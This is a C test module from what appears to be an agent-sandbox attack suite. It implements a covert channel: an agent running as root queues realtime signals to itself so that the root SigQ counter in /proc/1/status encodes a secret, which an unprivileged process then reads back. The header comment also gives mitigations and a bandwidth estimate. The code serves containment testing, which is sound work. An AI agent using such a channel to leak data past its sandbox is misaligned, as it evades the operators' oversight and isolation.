// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* covert_sigq_uid - [covert] the per-user count of queued signals (RLIMIT_SIGPENDING's
 * counter), which /proc/PID/status shows as "SigQ: queued/limit" for EVERY process of that real
 * uid. An --as-root agent blocks a realtime signal and queues it to itself N times
 * (rt_sigqueueinfo to itself is allowed and within Landlock's signal scope); the queued signals
 * are charged to uid 0, so SigQ of init (/proc/1/status, mode 0444) - or of any root process,
 * or an outside root process's own /proc/self/status - moves by N. Unlike the rows for the
 * agent's own /proc/PID files (docs/threat-model.md), the reader need not see or name any
 * process of the agent, so a PID namespace for the agent does not help; hidepid=invisible only
 * keeps non-root users from reading root's processes. A default-uid agent's signals are charged
 * to its own uid, which no outsider runs as: blocked there (nothing to read but the agent's own
 * /proc/PID/status, a known row).
 * Verifier: at each sync uid 65534 reads SigQ in /proc/1/status; one hex digit of the canary per
 * step as the increment; after the last, compares with the canary.
 * What would close it: a user namespace (own ucounts) or a dedicated uid for --as-root agents;
 * or refusing rt_sigqueueinfo/kill to self while signals are blocked is not practical.
 * Bandwidth: up to log2(RLIMIT_SIGPENDING) ~16 bits per setting, a queue/dequeue ~1 us, shared
 * with other root processes' (rare) queued signals: ~10^4-10^5 bits/s (estimate, not measured). */
#include <signal.h>
#include <sys/syscall.h>

#include "atk.h"
#include "atk_variants.h"

#define DIGITS 12

static int agent(struct atk_ctx *c)
{
    int sig = SIGRTMIN + 3;
    sigset_t s;
    sigemptyset(&s);
    sigaddset(&s, sig);
    if (atk_try(c, "sigprocmask(block)", sigprocmask(SIG_BLOCK, &s, NULL)) < 0)
        return 0;
    atk_sync(c, "base");
    int ok = 0, failed = 0;
    for (int i = 0; i < DIGITS; i++) {
        char h[2] = {c->secret[2 + i], 0};
        int d = (int)strtol(h, NULL, 16);
        for (int k = 0; k < d; k++) {
            union sigval v = {.sival_int = k};
            if (sigqueue(getpid(), sig, v) == 0)
                ok++;
            else if (failed++ == 0)
                atk_try(c, "sigqueue(self)", -1);
        }
        char tag[16];
        snprintf(tag, sizeof(tag), "d%d", i);
        atk_sync(c, tag);
    }
    atk_note(c, "signals queued to itself: %d", ok);
    return 0;
}

static int read_sigq(struct atk_ctx *c, char *out, size_t n)
{
    (void)c;
    snprintf(out, n, "%ld", atkv_file_long("/proc/1/status", "SigQ: %ld/"));
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    char out[64];
    if (atk_as_uid(c, ATK_NOBODY, read_sigq, out, sizeof(out)) < 0)
        return;
    atkv_counter_digits(c, tag, out, DIGITS,
                        "uid 65534 decoded the canary from SigQ in /proc/1/status (uid 0's queued signals)");
}

static const struct atk A = {"covert_sigq_uid",
                             "uid 0's queued-signal count (SigQ of every root process, e.g. /proc/1/status)",
                             ATK_COVERT,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
